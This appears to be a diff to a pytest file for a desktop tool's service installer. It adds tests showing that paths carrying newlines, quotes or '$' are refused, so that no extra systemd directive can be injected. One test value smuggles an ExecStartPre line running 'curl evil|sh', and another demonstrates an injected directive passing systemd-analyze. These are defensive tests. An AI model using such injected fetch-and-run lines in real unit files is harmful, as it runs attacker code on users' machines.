@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import json
+import os
+import re
 import subprocess
+import sys
 import xml.etree.ElementTree as ET
 from collections.abc import Sequence
 from pathlib import Path
@@ -13,6 +16,8 @@ import pytest
 from desktop import service
 from desktop.cli import main as cli_main
 from desktop.errors import UserError
+from desktop.paths import default_db_path
+from tests.integration.tools import require_tool
 
 
 class FakeRunner:
@@ -69,7 +74,7 @@ def test_linux_install_writes_the_unit_and_enables_it(unit_dir: Path, with_syste
     runner = FakeRunner()
     result = service.install(runner, system="linux")
     unit = unit_dir / service.UNIT_NAME
-    assert result.ok and unit.read_text() == service.render_unit(service.recorder_command())
+    assert result.ok and unit.read_text() == service.render_unit(service.recorder_command(db_path=default_db_path()))
     assert ["systemctl", "--user", "daemon-reload"] in runner.calls
     assert ["systemctl", "--user", "enable", "--now", service.UNIT_NAME] in runner.calls
     assert result.status.installed and result.status.enabled and result.status.active
@@ -207,3 +212,110 @@ def test_cli_install_without_systemctl_exits_2_with_the_command(unit_dir: Path, 
     assert cli_main(["service", "install"]) == 2
     err = capsys.readouterr().err
     assert err.startswith("rigscope service: Wrote ") and "systemctl --user daemon-reload" in err
+
+
+# --- issue 12 item 11: paths systemd cannot say, and the database the unit records to ----------
+
+
+@pytest.mark.parametrize(("path", "named"), [
+    ("/home/u/venv\nExecStartPre=/bin/sh -c 'curl evil|sh'\n/python", r"a line break (\n)"),
+    ("/home/u/venv\r/python", r"a carriage return (\r)"),
+    ("/home/u/ve\x1bnv/python", r"a control character (\x1b)"),
+    ("/home/u/$HOME/python", "'$'"),
+    ("/home/u/it's/python", "\"'\" (systemd refuses it"),
+    ("/home/u/a\\b/python", "'\\\\' (systemd refuses it"),
+    ("/home/u/v\udcffenv/python", "not valid UTF-8"),
+])
+def test_an_executable_path_systemd_cannot_say_is_refused(path: str, named: str) -> None:
+    with pytest.raises(UserError, match=re.escape(named)):
+        service.render_unit([path, "-m", "desktop", "record"])
+
+
+def test_install_refuses_a_venv_path_with_a_newline_and_writes_nothing(
+        unit_dir: Path, with_systemctl: None, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    runner = FakeRunner()
+    monkeypatch.setattr(service, "run_command", runner)
+    monkeypatch.setattr(service.sys, "executable", "/home/u/x\nExecStartPre=/bin/true\n/bin/python")
+    assert cli_main(["service", "install"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("rigscope service: ") and r"a line break (\n)" in err and "Traceback" not in err
+    assert not (unit_dir / service.UNIT_NAME).exists()
+    assert runner.calls == []
+
+
+def test_a_database_path_with_a_newline_is_refused(unit_dir: Path, with_systemctl: None,
+                                                   tmp_path: Path) -> None:
+    with pytest.raises(UserError, match=re.escape(r"a line break (\n)")):
+        service.install(FakeRunner(), system="linux", db_path=tmp_path / "a\nb.sqlite")
+    assert not (unit_dir / service.UNIT_NAME).exists()
+
+
+def test_the_unit_records_to_the_database_given_at_install(unit_dir: Path, with_systemctl: None,
+                                                           tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    runner = FakeRunner()
+    monkeypatch.setattr(service, "run_command", runner)
+    monkeypatch.chdir(tmp_path)
+    assert cli_main(["service", "install", "--db", "rel dir/$h%.sqlite"]) == 0
+    text = (unit_dir / service.UNIT_NAME).read_text()
+    wanted = str(tmp_path / "rel dir" / "$h%.sqlite").replace("$", "$$").replace("%", "%%")
+    assert f' record --db "{wanted}"\n' in text
+
+
+def test_without_db_the_unit_names_the_data_folder_of_the_installer(unit_dir: Path, with_systemctl: None) -> None:
+    """The recorder under systemd may not see RIGSCOPE_DATA_DIR or XDG_DATA_HOME of the shell that installed it."""
+    service.install(FakeRunner(), system="linux")
+    text = (unit_dir / service.UNIT_NAME).read_text()
+    assert f" record --db {default_db_path()}\n" in text
+
+
+def test_the_windows_task_records_to_the_database_given_at_install(tmp_path: Path) -> None:
+    runner = FakeRunner({("schtasks", "/Query"): (1, "", "")})
+    seen: list[str] = []
+
+    def capture(command: Sequence[str]) -> subprocess.CompletedProcess[str]:
+        if command[:2] == ["schtasks", "/Create"]:
+            seen.append(Path(command[5]).read_text(encoding="utf-16"))
+        return runner(command)
+
+    service.install(capture, system="win32", db_path=tmp_path / "my db.sqlite")
+    assert f'record --db "{tmp_path / "my db.sqlite"}"</Arguments>' in seen[0]
+
+
+def _verify(unit: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
+    tool = require_tool("systemd-analyze", "systemd")
+    runtime = tmp_path / "runtime"
+    runtime.mkdir(mode=0o700, exist_ok=True)
+    return subprocess.run([tool, "--user", "verify", str(unit)], capture_output=True, text=True, check=False,
+                          env={**os.environ, "XDG_RUNTIME_DIR": str(runtime)}, cwd=tmp_path)
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="systemd")
+def test_awkward_but_sayable_paths_verify(tmp_path: Path) -> None:
+    """Blanks, % and non-ASCII in the program, and also quotes, backslashes and $ in the database path,
+    are quoted so that systemd-analyze accepts the unit."""
+    folder = tmp_path / "my venv 50% é"
+    folder.mkdir()
+    python = folder / "python"
+    python.write_text("#!/bin/sh\nexit 0\n")
+    python.chmod(0o755)
+    unit = tmp_path / service.UNIT_NAME
+    unit.write_text(service.render_unit(service.recorder_command(
+        frozen=False, executable=str(python), db_path=tmp_path / "a $b 50% \"c\" 'd' \\e.sqlite")))
+    result = _verify(unit, tmp_path)
+    assert result.returncode == 0 and result.stdout + result.stderr == "", result.stdout + result.stderr
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="systemd")
+def test_an_injected_directive_was_accepted_by_systemd(tmp_path: Path) -> None:
+    """Why a newline must be refused, not quoted: the old renderer's output passes verify with an extra line."""
+    python = tmp_path / "python"
+    python.write_text("#!/bin/sh\nexit 0\n")
+    python.chmod(0o755)
+    injected = f"{python}\nExecStartPre={python}"
+    unit = tmp_path / service.UNIT_NAME
+    unit.write_text(service.render_unit([str(python), "record"]).replace(
+        f"ExecStart={python}", f"ExecStart={injected}"))
+    assert _verify(unit, tmp_path).returncode == 0
+    with pytest.raises(UserError):
+        service.render_unit([injected, "record"])
